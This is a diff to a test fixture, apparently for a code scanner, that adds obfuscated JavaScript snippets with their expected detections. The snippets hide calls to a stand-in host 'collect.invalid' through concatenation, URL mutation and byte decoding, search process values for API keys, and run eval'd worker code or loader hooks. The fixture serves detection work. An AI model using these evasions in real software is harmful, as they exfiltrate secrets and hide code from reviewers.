@@ -66,6 +66,21 @@ const evasions: Readonly<Record<string, readonly [source: string, ...facts: read
     'host: collect.invalid',
   ],
   'a host with a piece exchanged': ["fetch('hXXps://collect.invalid'.replace('XX', 'tt'))", 'host: collect.invalid'],
+  'the values of process': ['Object.values(process).find(each => each?.API_KEY)', 'env: any variable'],
+  'a worker through its module': [
+    "new (require('worker_threads').Worker)(code, { eval: true })",
+    'dynamic-code: a worker whose code is no file that the source names',
+  ],
+  'a hook of the loader': [
+    "require('node:module').register('./hook.mjs')",
+    'dynamic-code: a hook into the loader of modules',
+  ],
+  'a host among options': ["require('https').request({ host: 'col' + 'lect.invalid' })", 'host: collect.invalid'],
+  'a host set into an address': [
+    "const u = new URL('https://a.b'); u.hostname = 'collect.invalid'",
+    'host: collect.invalid',
+  ],
+  'a host behind a port': ["require('net').connect(443, 'collect.invalid')", 'host: collect.invalid'],
   'a host in bytes': [
     `fetch(new TextDecoder().decode(new Uint8Array([${[...Buffer.from('https://collect.invalid')].join()}])))`,
     'host: collect.invalid',
